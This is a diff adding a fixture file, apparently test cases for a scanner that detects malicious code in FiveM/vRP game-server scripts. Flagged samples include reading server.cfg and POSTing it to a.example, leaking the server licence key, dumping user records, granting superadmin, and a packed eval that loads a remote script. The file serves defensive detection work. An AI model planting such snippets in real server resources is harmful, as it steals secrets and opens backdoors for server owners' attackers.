@@ -1,0 +1,85 @@
+import { js, lua, type Fixture } from './fixture.ts'
+
+/** Code that finds its target in lists, on pages, in other interfaces and in packed texts. */
+export const connectionFixtures: Fixture[] = [
+  lua(
+    'secret-and-http',
+    `for _, name in ipairs({ 'server.cfg', 'data/server.cfg' }) do\n  local file = io.open(name, 'r')\n^ if file then PerformHttpRequest('https://a.example', print, 'POST', file:read('*a')) end\nend`,
+    `for _, name in ipairs({ 'names.txt', 'places.txt' }) do\n  local file = io.open(name, 'r')\n  if file then PerformHttpRequest(Config.Url, print, 'POST', name) end\nend`,
+  ),
+  js(
+    'secret-and-http',
+    `const wanted = [/^server.*\\.cfg$/i]\nconst text = require('fs').readFileSync(find(wanted), 'utf8')\n^fetch('https://a.example', { method: 'POST', body: text })`,
+    `const wanted = [/^locale.*\\.json$/i]\nconst text = require('fs').readFileSync(find(wanted), 'utf8')\nfetch('https://a.example/names')`,
+  ),
+  lua(
+    'sends-data',
+    `^GlobalState.theme = { accent = GetConvar('sv_licenseKey', '') }`,
+    `GlobalState.theme = { accent = GetConvar('theme_accent', '') }`,
+  ),
+  lua(
+    'sends-data',
+    `local name = ('yeKesnecil_vs'):reverse()\n^TriggerClientEvent('theme', -1, GetConvar(name, ''))`,
+    `TriggerClientEvent('theme', -1, GetConvar('theme_accent', ''))`,
+  ),
+  lua(
+    'sends-data',
+    `local Proxy = module('vrp', 'lib/Proxy')\nlocal vRP = Proxy.getInterface('vRP')\n^PerformHttpRequest('https://a.example', print, 'POST', json.encode(vRP.query('all/users')))`,
+    `local Proxy = module('vrp', 'lib/Proxy')\nlocal vRP = Proxy.getInterface('vRP')\nPerformHttpRequest('https://a.example', function() print(vRP.query('all/users')) end)`,
+  ),
+  lua(
+    'grants-rights',
+    `local vRP = Proxy.getInterface('vRP')\n^vRP.addUserGroup({ user_id, 'superadmin' })`,
+    `local vRP = Proxy.getInterface('vRP')\nvRP.addUserGroup({ user_id, 'mechanic' })`,
+  ),
+  lua(
+    'open-to-players',
+    `local Tunnel = module('vrp', 'lib/Tunnel')\nlocal shop = {}\nTunnel.bindInterface('shop', shop)\nfunction shop.refresh(amount)\n^ vRP.giveMoney({ id, 900000 })\nend`,
+    `local Tunnel = module('vrp', 'lib/Tunnel')\nlocal shop = {}\nTunnel.bindInterface('shop', shop)\nlocal function refresh(amount)\n  vRP.giveMoney({ id, 900000 })\nend`,
+  ),
+  js(
+    'fixed-player',
+    `const owners = new Set(['license:5f3a9c01d2'])\n^const isOwner = owners.has(GetPlayerIdentifierByType(id, 'license'))`,
+    `const owners = new Set(Config.owners)\nconst isOwner = owners.has(GetPlayerIdentifierByType(id, 'license'))`,
+  ),
+  js(
+    'runs-text-from-outside',
+    `const api = Object.create(globalThis)\nonNet('batch', (name, value) => {\n^ api[name](value)\n})`,
+    `const api = Object.create(null)\nonNet('batch', (name, value) => {\n  api[name](value)\n})`,
+  ),
+  lua(
+    'writes-other-resource',
+    `local function clear(resource)\n^ SaveResourceFile(resource, 'data.txt', ' ', 1)\nend\nclear(GetCurrentResourceName())\nclear(GetResourceByFindIndex(3))`,
+    `local function clear(resource)\n  SaveResourceFile(resource, 'data.txt', ' ', 1)\nend\nclear(GetCurrentResourceName())`,
+  ),
+  lua(
+    'runs-text-from-outside',
+    `local words = {}\nfor word in GetOnscreenKeyboardResult():gmatch('[^,]+') do words[#words + 1] = word end\n^TriggerServerEvent(table.unpack(words))`,
+    `TriggerServerEvent('chat:say', GetOnscreenKeyboardResult())`,
+    'client',
+  ),
+  lua(
+    'remote-page',
+    `^local board = CreateDui('https://a.example/board', 512, 512)`,
+    `local board = CreateDui('nui://shop/board.html', 512, 512)`,
+    'client',
+  ),
+  js(
+    'remote-switch',
+    `const socket = new WebSocket('wss://a.example')\nsocket.onmessage = (message) => {\n  const { resource, name } = JSON.parse(message.data)\n^ fetch(\`https://\${resource}/\${name}\`, { method: 'POST' })\n}`,
+    `const socket = new WebSocket('wss://a.example')\nsocket.onmessage = (message) => show(JSON.parse(message.data))`,
+    'page',
+  ),
+  js(
+    'runs-downloaded-code',
+    `^eval(function(p,a,c,k,e,d){return p}('0 1=2.3(\\'4\\');1.5=\\'6://7.8/9.a\\';2.b.c(1);',13,13,'const|s|document|createElement|script|src|https|a|example|b|js|body|append'.split('|'),0,{}))`,
+    `eval(function(p,a,c,k,e,d){return p}('0 1=2.3(\\'4\\');',5,5,'const|s|document|createElement|p'.split('|'),0,{}))`,
+    'page',
+  ),
+  js(
+    'obfuscated',
+    `^${"$_=(![]+[])[+!![]]+($+'')[_$],".repeat(12)}$`,
+    `const _ = require('lodash'); $('#a').on('click', () => _.each($('li'), ($_) => $($_).hide()))`,
+    'page',
+  ),
+]
